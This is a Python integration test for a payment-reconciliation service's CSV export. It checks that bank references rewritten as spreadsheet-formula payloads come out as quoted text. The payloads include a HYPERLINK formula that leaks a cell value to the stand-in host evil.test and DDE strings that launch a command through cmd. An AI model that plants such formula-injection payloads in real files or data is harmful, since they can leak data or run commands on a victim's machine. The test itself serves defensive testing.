"""The real exports, fed a statement whose bank references are spreadsheet formulas: every such
cell is written as text (a leading quote), amounts stay numbers (issue 12, OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

from sqlalchemy import Engine

from payrecon.services.reconciliation.reports import export_csv
from payrecon.services.spreadsheet import FORMULA_STARTS
from tests.integration.test_pipeline_services import DATA, load_ledger, run_pipeline

HOSTILE = {
    "BR-0001": '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "BR-0002": "+BR-0002",
    "BR-0003": "@SUM(1+1)*cmd|' /C calc'!A0",
    "BR-0004": "-2+3",
}


def test_hostile_references_are_exported_as_text(engine: Engine, tmp_path: Path) -> None:
    text = (DATA / "statement.camt053.xml").read_text()
    for plain, hostile in HOSTILE.items():
        text = text.replace(plain, hostile.replace("&", "&amp;").replace('"', "&quot;"))
    text = text.replace("Bowman &amp; Co", "=cmd|' /C calc'!A0")
    statement = tmp_path / "hostile.camt053.xml"
    statement.write_text(text)
    load_ledger(engine)
    run_pipeline(engine, tmp_path / "store", statement)

    exported: dict[str, list[dict[str, str]]] = {}
    for what in ("allocations", "unmatched"):
        out = io.StringIO()
        assert export_csv(engine, what, out) > 0
        exported[what] = list(csv.DictReader(io.StringIO(out.getvalue())))

    cells = [cell for rows in exported.values() for row in rows for cell in row.values()]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and c[0] != "'"], cells
    ids = {row["external_id"] for rows in exported.values() for row in rows}
    assert {"'" + hostile for hostile in HOSTILE.values()} <= ids, ids
    for row in exported["allocations"]:
        Decimal(row["amount_applied"])  # still a number
    for row in exported["unmatched"]:
        Decimal(row["amount"])
